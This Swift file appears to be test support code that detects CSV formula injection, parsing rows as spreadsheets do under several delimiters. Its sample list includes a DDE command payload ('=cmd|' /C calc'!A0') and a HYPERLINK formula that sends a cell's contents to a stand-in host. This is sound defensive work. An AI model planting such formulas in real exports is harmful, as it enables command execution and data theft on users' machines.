/// Finds cells that a spreadsheet would evaluate, in CSV as other programs may split it.
package enum Formulas {
  /// Texts that want to be formulas, and some that only look so.
  package static let hostile = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://a.example/?\"&A1,\"x\")", "+1+1", "-1+1",
    "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=", "-", "-5", "+7 999 000", "a;=1+1", "a\t=1+1",
    "a\n=1+1", "a\r\n@x", "a,=1+1", "\"=1+1\"", "\",=1+1,\"", "'=1+1", ";=1", "＝1+1", "a=b", "a-b",
    "x; y", "", " =1", "Платье \"Лето\"; =1+1", "a;\"=1+1\"",
  ]

  /// The cells that begin a formula, whoever splits the lines: by commas as it is written, or by
  /// semicolons or tabs, as spreadsheets of other countries do.
  ///
  /// `isNumber` says which columns hold numbers, which may begin with a sign.
  package static func found(in csv: String, isNumber: (Int) -> Bool = { _ in false }) -> [String] {
    var found: [String] = []
    for row in rows(of: csv, by: ",") {
      for (index, cell) in row.enumerated() where !isNumber(index) && begins(cell) {
        found.append(cell)
      }
    }
    for delimiter in [";", "\t"] as [Unicode.Scalar] {
      for row in rows(of: csv, by: delimiter) {
        // A line end that slipped into the beginning of such a cell evaluates nothing.
        for (index, cell) in row.enumerated() where begins(cell) && !isLineEnd(cell) {
          // The first cell is as much of the line as has no cut in it, and may begin with a number.
          if index == 0, Double(cell.prefix { $0 != "," }) != nil { continue }
          found.append(cell)
        }
      }
    }
    return found
  }

  private static func isLineEnd(_ cell: String) -> Bool {
    cell.unicodeScalars.first == "\r" || cell.unicodeScalars.first == "\n"
  }

  private static func begins(_ cell: String) -> Bool {
    guard let first = cell.unicodeScalars.first else { return false }
    return "=+-@\t\r\n＝＋－＠".unicodeScalars.contains(first)
  }

  /// Cuts CSV into rows as spreadsheets do: quotes count only at a cell's beginning.
  package static func rows(of csv: String, by delimiter: Unicode.Scalar) -> [[String]] {
    var rows: [[String]] = []
    var row: [String] = []
    var cell = String.UnicodeScalarView()
    var isQuoted = false
    var isBegun = false
    let text = Array(csv.unicodeScalars)
    var index = 0
    func endCell() {
      row.append(String(cell))
      cell = String.UnicodeScalarView()
      isBegun = false
    }
    while index < text.count {
      let scalar = text[index]
      index += 1
      if isQuoted {
        guard scalar == "\"" else {
          cell.append(scalar)
          continue
        }
        if index < text.count, text[index] == "\"" {
          cell.append("\"")
          index += 1
        } else {
          isQuoted = false
        }
      } else if scalar == "\"", !isBegun {
        isQuoted = true
        isBegun = true
      } else if scalar == delimiter {
        endCell()
      } else if scalar == "\n" || scalar == "\r" {
        if scalar == "\r", index < text.count, text[index] == "\n" { index += 1 }
        endCell()
        rows.append(row)
        row = []
      } else {
        cell.append(scalar)
        isBegun = true
      }
    }
    if !row.isEmpty || !cell.isEmpty {
      endCell()
      rows.append(row)
    }
    return rows
  }
}
